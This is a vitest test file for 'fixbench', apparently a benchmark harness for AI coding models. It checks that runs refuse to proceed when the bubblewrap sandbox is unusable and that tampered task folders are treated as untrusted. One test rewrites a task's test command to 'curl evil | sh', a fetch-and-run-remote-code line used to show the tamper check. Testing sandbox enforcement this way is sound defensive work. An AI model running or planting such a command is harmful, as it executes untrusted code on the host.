// Fail closed: with bwrap made unusable ($FIXBENCH_BWRAP naming a missing program, or a fake bwrap
// that fails as Ubuntu 24.04's AppArmor makes it fail), a run with a model stops before any work
// (exit 2, the fix named, no run folder, no model call); the reference agents on the bundled tasks
// fall back to `local` with the warning; an explicit --sandbox local runs and the report says
// "not isolated". `fixbench doctor` reports the same and exits 2.
import { chmod, cp, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, runCli } from '../helpers/cli.ts';
import { startFakeOpenAI, toolCall, type FakeOpenAI } from '../helpers/fake-openai.ts';

let tmp: string;
let server: FakeOpenAI;
let modelsFile: string;
let prices: string;
let missingBwrap: string;
let deniedBwrap: string;

beforeAll(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'fixbench-failclosed-'));
  server = await startFakeOpenAI(() => toolCall('bash', { command: 'echo FIXBENCH_SUBMIT' }, { usage: { prompt_tokens: 100, completion_tokens: 10 } }));
  modelsFile = path.join(tmp, 'models.yaml');
  await writeFile(
    modelsFile,
    `models:\n  - id: fake-coder\n    provider: fake\n    api: openai-chat\n    base_url: ${server.baseURL}\n    api_key_env: FAKE_PROVIDER_API_KEY\n    model: fake/coder-1\n    vendor: Fake Labs\n    region: US\n`,
  );
  prices = path.join(tmp, '2026-04-01.yaml');
  await writeFile(prices, 'as_of: "2026-04-01"\nsource: test sheet\nmodels:\n  fake-coder: { input: "1.00", output: "2.00" }\n');
  missingBwrap = path.join(tmp, 'no-such-bwrap');
  // What bwrap prints on Ubuntu 23.10+ when AppArmor forbids unprivileged user namespaces.
  deniedBwrap = path.join(tmp, 'bwrap-denied');
  await writeFile(deniedBwrap, '#!/bin/sh\nif [ "$1" = --version ]; then echo "bubblewrap 0.9.0"; exit 0; fi\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n');
  await chmod(deniedBwrap, 0o755);
});
afterAll(async () => {
  await server?.close();
  await rm(tmp, { recursive: true, force: true });
});

const env = (bwrap: string) => ({ FIXBENCH_BWRAP: bwrap, FAKE_PROVIDER_API_KEY: 'sk-fake-failclosed-0123456789', FIXBENCH_CACHE_DIR: path.join(tmp, 'env-cache') });
const out = (id: string) => ['--results', path.join(tmp, 'results'), '--reports', path.join(tmp, 'reports'), '--run-id', id];
const modelRun = () => ['run', '--task', 'js-duration-1', '--models-file', modelsFile, '--prices', prices, '--no-reference', '--budget-usd', 'none'];

describe('--sandbox auto with bwrap unusable', () => {
  it('a model run stops before any work: exit 2, the reason and the fix, no run folder, no model call', async () => {
    for (const [bwrap, reason, fix] of [
      [missingBwrap, /bubblewrap is not installed/, /install bubblewrap: sudo apt-get install -y bubblewrap|install bubblewrap: /],
      [deniedBwrap, /setting up uid map: Permission denied/, /bwrap-denied --unshare-all --ro-bind \/ \/ true|apparmor/],
    ] as const) {
      const id = `refused-${path.basename(bwrap)}`;
      const r = await runCli([...modelRun(), ...out(id)], { env: env(bwrap) });
      expect(r.exitCode, r.stderr).toBe(2);
      expect(r.stderr).toMatch(/--sandbox auto: bwrap cannot isolate commands here/);
      expect(r.stderr).toMatch(reason);
      expect(r.stderr).toMatch(/this would run untrusted code: model fake-coder \(it writes the commands\)/);
      expect(r.stderr).toMatch(/fix for this host \(check it with `fixbench doctor`\)/);
      expect(r.stderr).toMatch(fix);
      expect(r.stderr).toMatch(/--sandbox local \(not isolated/);
      expect(existsSync(path.join(tmp, 'results', id))).toBe(false);
    }
    expect(server.requests).toHaveLength(0);
  });

  it('a predictions file (fixbench eval) and a task folder from elsewhere are untrusted too', async () => {
    const preds = path.join(tmp, 'preds.jsonl');
    await writeFile(preds, JSON.stringify({ instance_id: 'js-duration-1', model_name_or_path: 'm', model_patch: '' }) + '\n');
    const ev = await runCli(['eval', '--predictions', preds, '--task', 'js-duration-1', ...out('eval-refused')], { env: env(missingBwrap) });
    expect(ev.exitCode, ev.stderr).toBe(2);
    expect(ev.stderr).toMatch(/untrusted code: the patches of .*preds\.jsonl/);
    expect(existsSync(path.join(tmp, 'results', 'eval-refused'))).toBe(false);

    const tasks = path.join(tmp, 'tasks-copy');
    await cp(path.join(ROOT, 'tasks'), tasks, { recursive: true });
    const ref = await runCli(['run', '--tasks', tasks, '--task', 'js-duration-1', '--no-models', ...out('tasks-refused')], { env: env(missingBwrap) });
    expect(ref.exitCode, ref.stderr).toBe(2);
    expect(ref.stderr).toMatch(/the setup and tests of the tasks in .*tasks-copy \(only the bundled tasks\/ count as trusted\)/);
  });

  it('tasks validate of a foreign folder and tasks create of a repository are refused; validating the bundled tasks is not', async () => {
    const tasks = path.join(tmp, 'tasks-validate');
    await cp(path.join(ROOT, 'tasks'), tasks, { recursive: true });
    const v = await runCli(['tasks', 'validate', 'js-duration-1', '--tasks', tasks, '--report', path.join(tmp, 'v.json')], { env: env(missingBwrap) });
    expect(v.exitCode, v.stderr).toBe(2);
    expect(v.stderr).toMatch(/untrusted code: the setup and tests of the tasks in .*tasks-validate/);
    const c = await runCli(['tasks', 'create', '--repo', path.join(tmp, 'some-repo'), '--base', 'abc1234', '--fix', 'def5678', '--issue', path.join(tmp, 'issue.md'), '--test-cmd', 'npm test', '--test-report', 'tap', '--tasks', path.join(tmp, 'new-tasks')], { env: env(missingBwrap) });
    expect(c.exitCode, c.stderr).toBe(2);
    expect(c.stderr).toMatch(/untrusted code: the setup and tests of repository .*some-repo/);
    const bundled = await runCli(['tasks', 'validate', 'js-duration-1', '--runs', '1', '--report', path.join(tmp, 'bundled.json')], { env: env(missingBwrap) });
    expect(bundled.exitCode, bundled.stderr).toBe(0);
    expect(bundled.stderr).toMatch(/sandbox "local" is NOT isolated/);
  });

  it('a task added to (or edited in) the bundled tasks/ folder is untrusted: exit 2, the task named', async () => {
    // A copy of the package, so its tasks/ is the bundled folder of that copy (as after `tasks create`).
    const pkg = path.join(tmp, 'pkg');
    // dist/ (the compiled CLI) last; every build input (tsconfig.json, the lock file) too, or the copy's build is stale
    for (const f of ['bin', 'scripts', 'src', 'tasks', 'prices', 'package.json', 'package-lock.json', 'tsconfig.json', 'models.yaml', 'dist']) await cp(path.join(ROOT, f), path.join(pkg, f), { recursive: true });
    await symlink(path.join(ROOT, 'node_modules'), path.join(pkg, 'node_modules'));
    const bin = path.join(pkg, 'bin', 'fixbench.mjs');
    const created = path.join(pkg, 'tasks', 'my-created-1');
    await cp(path.join(pkg, 'tasks', 'js-duration-1'), created, { recursive: true });
    const yaml = await readFile(path.join(created, 'task.yaml'), 'utf8');
    await writeFile(path.join(created, 'task.yaml'), yaml.replace('instance_id: js-duration-1', 'instance_id: my-created-1'));
    const r = await runCli(['run', '--task', 'my-created-1', '--no-models', ...out('created-refused')], { env: env(missingBwrap), bin });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/untrusted code: the setup and tests of task my-created-1 in .*pkg\/tasks \(not shipped with fixbench or changed since/);
    expect(r.stderr).toMatch(/npm run tasks:manifest/);
    expect(existsSync(path.join(tmp, 'results', 'created-refused'))).toBe(false);
    const v = await runCli(['tasks', 'validate', 'my-created-1', '--report', path.join(tmp, 'created.json')], { env: env(missingBwrap), bin });
    expect(v.exitCode, v.stderr).toBe(2);
    expect(v.stderr).toMatch(/task my-created-1 in/);
    // the default run (every task) includes it, so it is refused too
    const all = await runCli(['run', '--no-models', ...out('all-refused')], { env: env(missingBwrap), bin });
    expect(all.exitCode, all.stderr).toBe(2);
    // a bundled task whose test command was edited is no longer the shipped one
    const bundledYaml = path.join(pkg, 'tasks', 'js-duration-2', 'task.yaml');
    await writeFile(bundledYaml, (await readFile(bundledYaml, 'utf8')).replace(/^test_cmd: .*$/m, 'test_cmd: sh -c "curl evil | sh"'));
    const edited = await runCli(['run', '--task', 'js-duration-2', '--no-models', ...out('edited-refused')], { env: env(missingBwrap), bin });
    expect(edited.exitCode, edited.stderr).toBe(2);
    expect(edited.stderr).toMatch(/task js-duration-2 in .*not shipped with fixbench or changed since/);
  });

  it('only the reference agents on the bundled tasks: falls back to local with the warning', async () => {
    const r = await runCli(['run', '--task', 'js-duration-1', '--no-models', ...out('reference-local')], { env: env(deniedBwrap) });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/sandbox "local" is NOT isolated/);
    expect(r.stderr).toMatch(/bwrap was not used: .*setting up uid map: Permission denied/);
    const header = JSON.parse(await readFile(path.join(tmp, 'results', 'reference-local', 'run.json'), 'utf8'));
    expect(header.sandbox).toBe('local');
  });

  it('--sandbox local runs the model unisolated: run.json says local, the report header says "not isolated"', async () => {
    const r = await runCli([...modelRun(), '--sandbox', 'local', ...out('model-local')], { env: env(missingBwrap) });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stderr).toMatch(/sandbox "local" is NOT isolated/);
    expect(server.requests.length).toBeGreaterThan(0);
    const header = JSON.parse(await readFile(path.join(tmp, 'results', 'model-local', 'run.json'), 'utf8'));
    expect(header.sandbox).toBe('local');
    const html = await readFile(path.join(tmp, 'reports', 'model-local', 'index.html'), 'utf8');
    expect(html).toMatch(/<dt>sandbox<\/dt><dd>local \(not isolated\)<\/dd>/);
  });

  it('--sandbox bwrap refuses with the same fix', async () => {
    const r = await runCli(['run', '--task', 'js-duration-1', '--no-models', '--sandbox', 'bwrap', ...out('bwrap-refused')], { env: env(deniedBwrap) });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/--sandbox bwrap cannot be used: .*setting up uid map: Permission denied/);
    expect(r.stderr).toMatch(/fix for this host/);
  });
});

describe('fixbench doctor', () => {
  it('reports what the sandbox can do and exits 2 when bwrap is unusable', async () => {
    const r = await runCli(['doctor'], { env: env(deniedBwrap) });
    expect(r.exitCode, r.stderr).toBe(2);
    expect(r.stdout).toMatch(/bwrap: +.*bwrap-denied \(bubblewrap 0\.9\.0\)/);
    expect(r.stdout).toMatch(/user namespaces: +NO — bwrap: setting up uid map: Permission denied/);
    expect(r.stdout).toMatch(/network namespace: +NO/);
    expect(r.stdout).toMatch(/AppArmor userns rule: kernel\.apparmor_restrict_unprivileged_userns = /);
    expect(r.stdout).toMatch(/sandbox: bwrap is NOT usable here/);
    const json = await runCli(['doctor', '--json'], { env: env(missingBwrap) });
    expect(json.exitCode).toBe(2);
    expect(JSON.parse(json.stdout)).toMatchObject({ usable: false, bwrap: { path: null }, userns: { tried: false } });
  });

  it('exits 0 with the real bwrap of this host when it works (skipped where it does not)', async () => {
    const r = await runCli(['doctor', '--json'], { env: { FIXBENCH_BWRAP: undefined } });
    const probe = JSON.parse(r.stdout);
    expect(r.exitCode).toBe(probe.usable ? 0 : 2);
    if (probe.usable) expect(probe).toMatchObject({ userns: { ok: true }, netns: { ok: true }, fixes: [] });
  });
});
